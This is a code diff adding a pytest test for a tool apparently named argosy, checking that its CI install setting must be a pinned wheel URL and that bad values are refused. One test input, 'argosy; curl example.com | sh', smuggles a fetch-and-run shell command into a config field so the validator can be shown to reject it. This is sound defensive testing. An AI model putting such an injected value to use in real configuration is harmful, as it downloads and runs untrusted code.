@@ -82,6 +82,25 @@ def test_follow_up(argosy: Argosy, repository: Path) -> None:
     assert not workflow.exists()
 
 
+def test_which_argosy_ci_installs(argosy: Argosy, repository: Path) -> None:
+    missing = "CI's jobs fail until they know which argosy to install: argosy set repository argosyInstall="
+    assert missing not in argosy("set", "repository", "kubernetesVersion=1.36", "--commit").err
+    assert missing in argosy("set", "repository", "ci=gitlab", "--commit").err
+    setting = f"argosy @ https://example.com/argosy-0.1.0-py3-none-any.whl#sha256={'0a' * 32}"
+    result = argosy("set", "repository", f"argosyInstall={setting}", "--commit")
+    assert (result.code, missing in result.err) == (0, False)
+    assert document(".copier-answers.yml")["argosy_install"] == setting
+    assert setting.replace(" @ ", "@") in Path(".gitlab-ci.yml").read_text()
+    before = state(repository)
+    refused = argosy("set", "repository", "argosyInstall=argosy")
+    assert (refused.code, state(repository)) == (2, before)
+    assert "“argosy” does not name one argosy alone" in refused.err
+    assert "\n    PATH/argosy-VERSION-py3-none-any.whl (a file of the repository)\n" in refused.err
+    edit(repository, ".copier-answers.yml", setting, "argosy; curl example.com | sh")
+    broken = argosy("apply")
+    assert (broken.code, ".copier-answers.yml: “argosy; curl" in broken.err) == (1, True)
+
+
 def test_a_conflict_and_both_ways_out(argosy: Argosy, repository: Path) -> None:
     edit(
         repository,
